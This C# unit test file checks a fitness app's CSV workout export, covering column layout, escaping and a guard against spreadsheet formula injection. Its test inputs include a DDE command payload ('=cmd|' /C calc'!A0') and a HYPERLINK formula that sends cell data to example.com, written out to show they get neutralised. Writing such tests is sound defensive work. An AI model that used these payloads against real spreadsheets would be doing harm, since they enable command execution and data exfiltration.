using System.Globalization;
using System.Text;
using System.Text.Json;
using CsvHelper;
using FitServerless.Tests.Sync;
using FitServerless.Workouts;
using FitServerless.Workouts.Tables;
using FsCheck;
using FsCheck.Fluent;

namespace FitServerless.Tests.Workouts.Tables;

/// <summary>What a spreadsheet gets to see.</summary>
public sealed class WorkoutTableTests
{
    private const string Formulas = "=+-@\t\r\n＝＋－＠";

    private static readonly Workout Ride = new() { Id = "w", StartedAt = new DateTimeOffset(2026, 3, 1, 6, 30, 0, TimeSpan.FromHours(1)) };

    [Fact]
    public void A_row_has_what_a_workout_has_and_nothing_where_it_has_nothing()
    {
        var summary = JsonDocument.Parse("""
            {
              "avgPower": 201.5, "maxPower": "=1+1", "distance": 12345.6789, "load": 61.25, "avgHeartrate": null, "avgCadence": {}, "calories": 1e400,
              "movingSeconds": -5
            }
            """).RootElement;
        var whole = Ride with
        {
            EndedAt = Ride.StartedAt!.Value.AddHours(1),
            SportType = "Biking",
            Title = "Über, \"den\" Paß",
            Notes = "up\nand down",
            Summary = summary,
            MeasurementCount = 7,
        };

        Assert.Equal(
            "w,2026-03-01T05:30:00Z,2026-03-01T06:30:00Z,Biking,\"Über, \"\"den\"\" Paß\",\"up\nand down\","
            + "3600,\"'-5\",12345.679,,201.5,,,,,,,61.25,7,\r\n",
            Text(whole));
        Assert.Equal("w,2026-03-01T05:30:00Z,,,,,,,,,,,,,,,,,,\r\n", Text(Ride));
    }

    [Fact]
    public void An_encrypted_one_is_a_time_and_the_word()
    {
        var encrypted = Ride with { Enc = "a", Kid = "k", Iv = "i", Ct = "c", SportType = Workout.DefaultSport };
        Assert.Equal("w,2026-03-01T05:30:00Z,,,,,,,,,,,,,,,,,,yes\r\n", Text(encrypted));
    }

    [Fact]
    public void The_head_names_each_column_once_behind_a_byte_order_mark()
    {
        var head = WorkoutTable.Head();
        Assert.True(head.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        var names = Encoding.UTF8.GetString(head).TrimStart('\uFEFF').TrimEnd().Split(',');
        Assert.Equal(names.Distinct(), names);
        Assert.Equal(names.Length, Cells(Text(Ride)).Length);
    }

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-1", "\"'-1\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData("＝1+1", "\"'＝1+1\"")]
    [InlineData("=HYPERLINK(\"http://example.com?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://example.com?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\"")]
    [InlineData("1=1", "1=1")]
    [InlineData("'=1", "'=1")]
    [InlineData("", "")]
    public void A_cell_that_a_spreadsheet_would_run_is_text(string title, string cell) =>
        Assert.Equal($"w,2026-03-01T05:30:00Z,,,{cell},,,,,,,,,,,,,,,\r\n", Text(Ride with { Title = title }));

    [Fact]
    public void Whatever_people_write_reads_back_as_it_was_and_behind_an_apostrophe_where_it_would_be_a_formula()
    {
        var nasty = Gen.Elements([.. Formulas, .. "\"',; a0'"]);
        var words = Gen.OneOf(
            nasty.ArrayOf().Select(letters => new string(letters)), ArbMap.Default.GeneratorFor<NonNull<string>>().Select(text => text.Get));
        Law.Holds(
            words.Where(text => !text.Contains('\0') && text == Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text))),
            text =>
            {
                var cell = Cells(Text(Ride with { Title = text, Notes = "after" }));
                return (cell[4], cell[5]) == (IsFormula(text) ? $"'{text}" : text, "after");
            },
            count: 2_000);
    }

    private static bool IsFormula(string text) => text.Length > 0 && Formulas.Contains(text[0], StringComparison.Ordinal);

    private static string[] Cells(string row)
    {
        using var reader = new CsvReader(new StringReader(row), CultureInfo.InvariantCulture);
        Assert.True(reader.Read());
        var cells = Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!).ToArray();
        Assert.False(reader.Read());
        return cells;
    }

    private static string Text(Workout workout) => Encoding.UTF8.GetString(WorkoutTable.Rows([workout]));
}
